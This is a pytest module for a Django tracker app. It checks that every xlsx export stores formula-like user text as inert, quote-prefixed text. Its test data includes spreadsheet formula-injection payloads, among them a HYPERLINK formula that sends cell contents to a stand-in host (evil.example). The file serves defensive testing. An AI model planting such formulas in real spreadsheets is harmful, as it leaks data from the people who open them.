"""No xlsx export turns typed text into a formula (security issue 13, point 3).

Text beginning with = + - @, a tab or a CR, typed into any field an export shows, is downloaded through every
export and read back: no cell of any sheet is a formula, each such cell carries the quote prefix (so it stays text
when opened for editing), and the text reads back exactly as typed. Every cell value an export sets is set by
tracker/xlsx.py (checked while the file is written), and a new export URL without a test here fails
`test_every_xlsx_download_is_tested_here`.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import shutil
import subprocess
import sys
from collections.abc import Iterable
from pathlib import Path

import openpyxl
import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import Cell

from tracker.org import xlsx
from tracker.org.jsondata import to_json
from tracker.org.models import OrgUnit
from tracker.org.xlsx import XLSX_CONTENT_TYPE, append_row, safe_cell, write_cell
from tracker.plans.models import Task
from tracker.quotas.models import Quota
from tracker.reporting.dashboard import build_dashboard
from tracker.reporting.models import ReportSnapshot

from .conftest import client_for
from .factories import (
    ActivityFactory,
    QuotaFactory,
    SpecialityFactory,
    StandardFactory,
    StandardGroupFactory,
    StandardItemFactory,
    TaskPartyFactory,
    TaskUpdateFactory,
    VolunteerFactory,
    WorkPlatformFactory,
    college,
)

HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A2,"点我查看")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1")
SIGNS = ("=", "+", "-", "@", "\t", "\r")
TRACKER = Path(xlsx.__file__).resolve().parent
WRITER = str(Path(xlsx.__file__).resolve())
OPENPYXL = str(Path(openpyxl.__file__).resolve().parent)


def hostile_texts(*fields: str) -> dict[str, str]:
    """One hostile text per field: the six payloads as they are, then the short ones again marked with their field,
    so that every field's text is different, can be looked for on its own and fits a short column (PostgreSQL
    refuses a text longer than its column, SQLite does not)."""
    short = HOSTILE[1:]
    return {
        field: HOSTILE[index] if index < len(HOSTILE) else f"{short[index % len(short)]}{field}"
        for index, field in enumerate(fields)
    }


@pytest.fixture
def writers(monkeypatch) -> list[str]:
    """The file of the first frame outside openpyxl behind every cell value set while the fixture is active."""
    seen: list[str] = []
    original = Cell.value

    def set_value(cell: Cell, value) -> None:
        frame = sys._getframe(1)
        while frame is not None and frame.f_code.co_filename.startswith(OPENPYXL):
            frame = frame.f_back
        seen.append(str(Path(frame.f_code.co_filename).resolve()) if frame is not None else "?")
        original.fset(cell, value)

    monkeypatch.setattr(Cell, "value", property(original.fget, set_value))
    return seen


def download(user, url: str, writers: list[str], params: dict | None = None) -> bytes:
    writers.clear()
    response = client_for(user).get(url, params or {})
    assert response.status_code == 200, url
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    outside = sorted(set(writers) - {WRITER})
    assert writers and not outside, f"cells written outside tracker/xlsx.py by {outside}"
    return response.content


def assert_inert(content: bytes, typed: Iterable[str]) -> None:
    """No formula anywhere; text starting with a formula sign has the quote prefix; every typed text is a cell."""
    workbook = load_workbook(io.BytesIO(content))
    formulas, unprefixed, texts = [], [], set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{sheet.title}!{cell.coordinate}"
                if cell.data_type == "f":
                    formulas.append(where)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    if cell.value.startswith(SIGNS) and not cell.quotePrefix:
                        unprefixed.append(where)
    assert formulas == []
    assert unprefixed == []
    assert [text for text in typed if text not in texts] == []


# --- The helper ----------------------------------------------------------------------------------


@pytest.mark.parametrize("write_only", [False, True], ids=["ordinary", "write-only"])
def test_helper_writes_hostile_text_as_plain_text_and_leaves_other_values_alone(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("表") if write_only else workbook.active
    others = [42, 2.5, True, dt.date(2021, 5, 20), None, "普通文字", "#N/A"]
    append_row(sheet, [*HOSTILE, *others])
    append_row(sheet, [safe_cell(sheet, text, number_format="@") for text in HOSTILE])
    if not write_only:
        for column, text in enumerate(HOSTILE, start=1):
            write_cell(sheet, 3, column, text)
    buffer = io.BytesIO()
    workbook.save(buffer)
    rows = list(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows())
    assert len(rows) == (2 if write_only else 3)
    for row in rows:
        hostile = row[:len(HOSTILE)]
        assert [cell.value for cell in hostile] == list(HOSTILE)
        assert {cell.data_type for cell in hostile} == {"s"}
        assert all(cell.quotePrefix for cell in hostile)
    plain = rows[0][len(HOSTILE):]
    assert [cell.value for cell in plain] == [42, 2.5, True, dt.datetime(2021, 5, 20), None, "普通文字", "#N/A"]
    assert [cell.data_type for cell in plain] == ["n", "n", "b", "d", "n", "s", "s"]  # "#N/A" not an error value
    assert not any(cell.quotePrefix for cell in plain)
    assert rows[1][0].number_format == "@"


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_shows_the_text_and_evaluates_none_of_it(tmp_path):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["=1+1"])  # a real formula, to show that LibreOffice evaluates what is one
    append_row(sheet, HOSTILE)
    path = tmp_path / "hostile.xlsx"
    workbook.save(path)
    subprocess.run(
        ["soffice", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless", "--convert-to",
         "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(tmp_path), str(path)],
        check=True, capture_output=True, timeout=120,
    )
    with open(tmp_path / "hostile.csv", encoding="utf-8", newline="") as converted:
        rows = list(csv.reader(converted))
    assert rows[0][0] == "2"
    assert rows[1] == list(HOSTILE)


# --- Every export ----------------------------------------------------------------------------------


def test_roster_export_keeps_hostile_names_notes_and_units_as_text(world, staff, writers):
    typed = hostile_texts("姓名", "工号", "所在单位", "原职务", "原单位", "电话", "资源特长")
    unit = college(world.institution, typed["所在单位"], short_name="")
    volunteer = VolunteerFactory(unit=unit, name=typed["姓名"], staff_number=typed["工号"],
                                 former_post=typed["原职务"], former_unit=typed["原单位"], phone=typed["电话"])
    volunteer.specialities.set([SpecialityFactory(institution=world.institution, name=typed["资源特长"])])
    assert_inert(download(staff, reverse("tracker:roster-export"), writers), typed.values())


def test_roster_template_is_written_through_the_helper(world, staff, writers):
    assert_inert(download(staff, reverse("tracker:roster-template"), writers), ["工号", "姓名"])


def test_setup_template_is_written_through_the_helper(world, staff, writers):
    assert_inert(download(staff, reverse("tracker:setup-template"), writers), ["类型", "名称", "姓名", "用户名"])


def test_plan_import_template_is_written_through_the_helper(world, staff, writers):
    assert_inert(download(staff, reverse("tracker:plan-import-template"), writers), ["主题", "序号", "完成时限"])


def test_ledger_export_keeps_hostile_titles_notes_and_names_as_text(world, staff, writers):
    typed = hostile_texts("标题", "备注", "单位", "工作平台", "参与老同志")
    unit = college(world.institution, typed["单位"], short_name="")
    platform = WorkPlatformFactory(owner=unit, name=typed["工作平台"])
    activity = ActivityFactory(unit=unit, platform=platform, title=typed["标题"], notes=typed["备注"])
    activity.retirees.set([VolunteerFactory(unit=unit, name=typed["参与老同志"])])
    assert_inert(download(staff, reverse("tracker:activity-export"), writers), typed.values())


def test_standard_export_keeps_hostile_item_texts_as_text(world, staff, writers):
    typed = hostile_texts("内容", "评分要求", "一级指标", "序号")
    standard = StandardFactory(institution=world.institution)
    group = StandardGroupFactory(standard=standard, name=typed["一级指标"])
    StandardItemFactory(group=group, number=typed["序号"], text=typed["内容"], rule=typed["评分要求"])
    url = reverse("tracker:standard-export", args=[standard.pk])
    assert_inert(download(staff, url, writers), typed.values())


def hostile_dashboard(world) -> dict[str, str]:
    """Quota names, a college and an overdue task as a hostile user might have named them."""
    typed = hostile_texts("学院指标", "全校指标", "学院", "逾期任务", "责任单位")
    QuotaFactory(institution=world.institution, name=typed["学院指标"])
    QuotaFactory(institution=world.institution, name=typed["全校指标"], scope=Quota.Scope.INSTITUTION,
                 metric="volunteers")
    college(world.institution, typed["学院"], short_name="")
    lead = OrgUnit.objects.create(institution=world.institution, kind=OrgUnit.Kind.MEMBER_UNIT,
                                  name=typed["责任单位"])
    task = world.unit_task
    task.title, task.due_date = typed["逾期任务"], timezone.localdate() - dt.timedelta(days=3)
    task.save()
    task.parties.all().delete()
    TaskPartyFactory(task=task, kind=OrgUnit.Kind.MEMBER_UNIT, unit=lead)
    return typed


def test_dashboard_export_keeps_hostile_quota_college_and_task_names_as_text(world, leader, writers):
    typed = hostile_dashboard(world)
    assert_inert(download(leader, reverse("tracker:dashboard-export"), writers), typed.values())


def test_snapshot_export_keeps_a_hostile_snapshot_name_and_figures_as_text(world, staff, writers):
    typed = hostile_dashboard(world)
    name = "=HYPERLINK(\"http://evil.example/\",\"快照\")"
    snapshot = ReportSnapshot.objects.create(
        institution=world.institution, name=name, as_of=timezone.localdate(), created_by=staff,
        data=to_json(build_dashboard(world.institution, timezone.localdate())))
    url = reverse("tracker:snapshot-export", args=[snapshot.pk])
    assert_inert(download(staff, url, writers), [name, *typed.values()])


def test_plan_export_keeps_hostile_titles_goals_tasks_and_notes_as_text(world, staff, writers):
    typed = hostile_texts("推进表", "目标", "序号", "内容", "牵头单位", "阶段", "最新进展")
    plan = world.plan
    plan.attachment_title = typed["推进表"]
    plan.save()
    stage = world.school_task.stage
    stage.goal = typed["目标"]
    stage.save()
    phase = stage.phase
    phase.name = typed["阶段"]
    phase.save()
    task = world.school_task
    # The title is the text's opening, so the 内容 cell is the text alone (else the title heads it on a line)
    task.number, task.title, task.text = typed["序号"], typed["内容"], typed["内容"]
    task.save()
    world.committee.name, world.committee.short_name = typed["牵头单位"], ""
    world.committee.save()
    TaskUpdateFactory(task=task, date=dt.date(2021, 9, 1), note=typed["最新进展"], status=Task.Status.IN_PROGRESS)
    content = download(staff, reverse("tracker:plan-export", args=[plan.pk]), writers)
    latest = f"2021-09-01 {typed['最新进展']}"
    heading = f"{typed['阶段']}（2021.7—2022.6）"
    exact = [typed[field] for field in ("推进表", "目标", "序号", "内容", "牵头单位")]
    assert_inert(content, [*exact, latest, heading])


# --- No export can bypass the helper -----------------------------------------------------------------

TESTED = {"tracker:roster-export", "tracker:roster-template", "tracker:activity-export", "tracker:standard-export",
          "tracker:dashboard-export", "tracker:snapshot-export", "tracker:plan-export", "tracker:setup-template",
          "tracker:plan-import-template"}


def downloads(patterns, namespace: str = "") -> set[str]:
    """URL names that look like file downloads: a route ending in .xlsx, or a name ending in -export/-template."""
    names: set[str] = set()
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            if pattern.namespace != "admin":
                inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                names |= downloads(pattern.url_patterns, inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            route = str(pattern.pattern)
            if route.endswith(".xlsx") or pattern.name.endswith(("-export", "-template")):
                names.add(f"{namespace}{pattern.name}")
    return names


def test_every_xlsx_download_is_tested_here():
    assert downloads(get_resolver().url_patterns) == TESTED


def test_no_module_but_tracker_xlsx_makes_cells_or_writes_values_into_them():
    """Outside tracker/xlsx.py no module imports openpyxl's cells, and no module using openpyxl puts a value in with
    `sheet.cell(r, c, value)` or assigns `cell.value`: the exports use append_row, safe_cell and write_cell.
    (Direct `sheet.append(…)` is caught while the files are written, by the `writers` fixture.)"""
    found = []
    for path in sorted(TRACKER.rglob("*.py")):
        if path == TRACKER / "xlsx.py" or "migrations" in path.parts:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        nodes = list(ast.walk(tree))
        uses_openpyxl = any(isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl")
                            or isinstance(node, ast.Import) and any(a.name.startswith("openpyxl") for a in node.names)
                            for node in nodes)
        for node in nodes:
            where = f"{path.relative_to(TRACKER.parent)}:{getattr(node, 'lineno', '?')}"
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl.cell"):
                found.append(f"{where} imports {node.module}")
            elif not uses_openpyxl:
                continue
            elif (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "cell"
                  and (len(node.args) > 2 or any(keyword.arg == "value" for keyword in node.keywords))):
                found.append(f"{where} writes a value with .cell()")
            elif isinstance(node, ast.Assign) and any(
                    isinstance(target, ast.Attribute) and target.attr == "value" for target in node.targets):
                found.append(f"{where} assigns .value")
    assert found == []
